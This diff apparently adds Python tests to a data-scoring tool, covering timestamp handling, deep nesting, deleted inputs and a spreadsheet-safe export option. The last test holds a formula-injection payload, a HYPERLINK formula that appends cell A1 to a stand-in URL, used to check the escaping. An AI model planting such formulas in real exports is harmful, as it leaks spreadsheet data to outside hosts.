@@ -800,3 +800,71 @@ def test_a_full_temporary_folder_is_one_line_and_the_run_goes_on(tmp_path, monke
             run(Scorer("toy"), path, tmp_path / "scores.parquet")
     run(Scorer("toy"), path, tmp_path / "scores.parquet")
     assert (tmp_path / "scores.parquet").read_bytes() == (tmp_path / "whole.parquet").read_bytes()
+
+
+def test_times_of_nanoseconds_stay_as_they_are(tmp_path):
+    (_, rows), nanoseconds = make_input(tmp_path, rows=3), [1_700_000_000_123_456_789, None, 7]
+    table = pa.Table.from_pylist(rows)
+    kinds = {
+        "when": pa.timestamp("ns"), "zoned": pa.timestamp("ns", tz="Europe/Zurich"), "took": pa.duration("ns"),
+    }  # fmt: skip
+    for name, kind in kinds.items():
+        table = table.append_column(name, pa.array(nanoseconds, pa.int64()).cast(kind))
+    table = table.append_column("clock", pa.array([1_123_456_789, None, 7], pa.int64()).cast(pa.time64("ns")))
+    pq.write_table(table, tmp_path / "times.parquet")
+    run(Scorer("toy"), tmp_path / "times.parquet", tmp_path / "out.parquet")
+    output = pq.read_table(tmp_path / "out.parquet")
+    for name in (*kinds, "clock"):
+        assert output[name].type == table[name].type
+        assert output[name].equals(table[name])
+    run(Scorer("toy"), tmp_path / "times.parquet", tmp_path / "out.jsonl")
+    assert json.loads((tmp_path / "out.jsonl").read_text().splitlines()[0])["when"] == "2023-11-14 22:13:20.123456789"
+
+
+@pytest.mark.parametrize("depth", [64, 300, 960])
+@pytest.mark.parametrize("suffix", ["parquet", "jsonl", "csv"])
+def test_a_value_nested_very_deep_stops_no_run(tmp_path, depth, suffix):
+    (path, _), deep = make_input(tmp_path, rows=3), "[" * depth + "]" * depth
+    lines = path.read_text().splitlines()
+    lines[1] = f'{lines[1][:-1]}, "extra": {deep}}}'
+    path.write_text("\n".join(lines))
+    result = run(Scorer("toy"), path, tmp_path / f"out.{suffix}")
+    assert (result.rows, result.failed) == (3, 0)
+    with ExitStack() as stack:
+        values = [row.values for row in open_records(tmp_path / f"out.{suffix}", format=None, until=stack).read()]
+    assert values[1]["extra"] == deep
+
+
+def test_an_input_deleted_during_a_run_is_named_and_not_the_output(tmp_path):
+    path, _ = make_input(tmp_path, rows=4)
+
+    def delete(done, total):
+        if done == total:
+            path.unlink(missing_ok=True)
+
+    with pytest.raises(RunError, match=r"rows\.jsonl: cannot be read any more \(No such file"):
+        run(Scorer("toy"), path, tmp_path / "out.parquet", progress=delete)
+
+
+def test_a_prefix_is_printable(tmp_path):
+    with pytest.raises(ConfigError, match=r"a prefix must be printable.* got '\\n'"):
+        RunOptions(prefix="\n")
+
+
+@pytest.mark.parametrize("suffix", ["csv", "tsv"])
+def test_formulas_are_text_for_a_spreadsheet_when_asked(tmp_path, suffix):
+    path, rows = make_input(tmp_path, rows=3)
+    formula = '=HYPERLINK("http://x.invalid/?"&A1,"dog")'
+    rows[0] |= {"=note": formula, "less": -3}
+    path.write_text("\n".join(map(json.dumps, rows)))
+    run(Scorer("toy"), path, tmp_path / f"plain.{suffix}")
+    run(Scorer("toy"), path, tmp_path / f"safe.{suffix}", excel_safe=True)
+    plain, safe = (read_rows(tmp_path / f"{name}.{suffix}") for name in ("plain", "safe"))
+    assert plain[0]["=note"] == formula
+    assert safe[0]["'=note"] == f"'{formula}"
+    assert [row["msd"] for row in plain] == [row["msd"] for row in safe]
+    assert safe[0]["less"] == "-3"
+    with pytest.raises(
+        ConfigError, match=r"--excel-safe is for outputs that spreadsheets open; expected \.csv or \.tsv"
+    ):
+        run(Scorer("toy"), path, tmp_path / "safe.parquet", excel_safe=True)
